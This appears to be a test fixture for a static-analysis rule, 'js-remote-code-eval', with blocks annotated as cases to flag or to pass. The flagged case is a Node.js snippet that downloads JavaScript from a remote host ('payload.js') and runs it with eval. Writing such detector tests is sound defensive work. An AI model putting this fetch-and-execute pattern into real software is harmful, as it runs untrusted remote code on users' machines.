const https = require("https");
https.get("https://cdn.example.net/payload.js", (res) => {
  let body = "";
  res.on("data", (c) => (body += c));
  // ruleid: js-remote-code-eval
  res.on("end", () => eval(body));
});
// ===== block =====
const res = await fetch("/api/settings");
// ok: js-remote-code-eval
const settings = JSON.parse(await res.text());
// ===== block =====
// ok: js-remote-code-eval
const result = eval(expression);
// ok: js-remote-code-eval
const f = new Function("x", "return x * 2");
